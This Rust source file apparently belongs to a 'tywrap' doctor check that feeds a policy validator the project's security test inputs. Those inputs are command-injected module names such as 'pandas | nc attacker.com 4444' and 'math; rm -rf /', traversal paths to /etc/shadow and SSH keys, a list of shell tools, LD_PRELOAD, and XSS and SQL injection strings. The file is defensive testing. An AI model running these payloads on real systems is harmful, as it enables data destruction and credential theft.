//! The inputs of tywrap's own security suite, put to the project's policy.
//!
//! A policy may allow what the suite of every release expects to be refused: a shell, say, or a variable that nobody
//! knows.

use std::path::Path;

use tywrap_policy::escape::string_literal;
use tywrap_policy::{Code, SecurityValidator};

use super::facts::Facts;
use super::line::Line;

const MODULES: [&str; 5] =
    ["math; rm -rf /", "numpy && cat /etc/passwd", "pandas | nc attacker.com 4444", "scipy `whoami`", "requests $(id)"];

const PATHS: [&str; 5] = [
    "../../../../etc/passwd",
    "../../../home/user/.ssh/id_rsa",
    "..\\..\\..\\windows\\system32\\config\\sam",
    "/etc/shadow",
    "~/.bashrc",
];

/// The directory that the paths must not leave.
const ROOT: &str = "/app/safe";

const COMMANDS: [&str; 7] = ["rm", "cat", "curl", "wget", "nc", "bash", "sh"];

const VARIABLES: [(&str, &str); 2] = [("MALICIOUS_VAR", "x"), ("LD_PRELOAD", "/tmp/x.so")];

const TEXTS: [&str; 4] = ["alert(\"xss\")", "${evil_code}", "`command_injection`", "'; DROP TABLE users; --"];

pub(super) fn line(facts: &Facts<'_>) -> Line {
    let mut line = Line::new(&[
        "`cargo tywrap doctor --checklist`",
        "`subprocess.command-whitelist`",
        "`subprocess.allowed-environment-vars`",
    ]);
    let validator = SecurityValidator::new(&facts.policy);
    let mut accepted = Vec::new();
    let mut note = |what: &str, input: &str, is_accepted: bool| {
        if is_accepted {
            accepted.push(format!("{what} `{input}` is accepted"));
        }
    };
    MODULES.iter().for_each(|name| note("module", name, validator.module_name(name).is_ok()));
    PATHS.iter().for_each(|path| note("path", path, validator.path(Path::new(ROOT), path).is_ok()));
    COMMANDS.iter().for_each(|command| note("program", command, validator.command(command).is_ok()));
    for variable in VARIABLES {
        note("variable", variable.0, !validator.environment([variable]).kept.is_empty());
    }
    for text in TEXTS {
        let literal = string_literal(text);
        note("text", text, literal.contains("${") || literal.contains(['`', '\'']));
    }
    let inputs = MODULES.len() + PATHS.len() + COMMANDS.len() + VARIABLES.len() + TEXTS.len();
    if accepted.is_empty() {
        line.pass(format!("the policy refuses or escapes all {inputs} inputs of the security suite"));
    }
    accepted.into_iter().for_each(|text| line.fail(text));
    facts.warnings(Code::PolicySwitchOff).for_each(|message| line.warn(message));
    line.by_hand("read the advisories of tywrap, of Python and of what is wrapped, and update");
    line
}
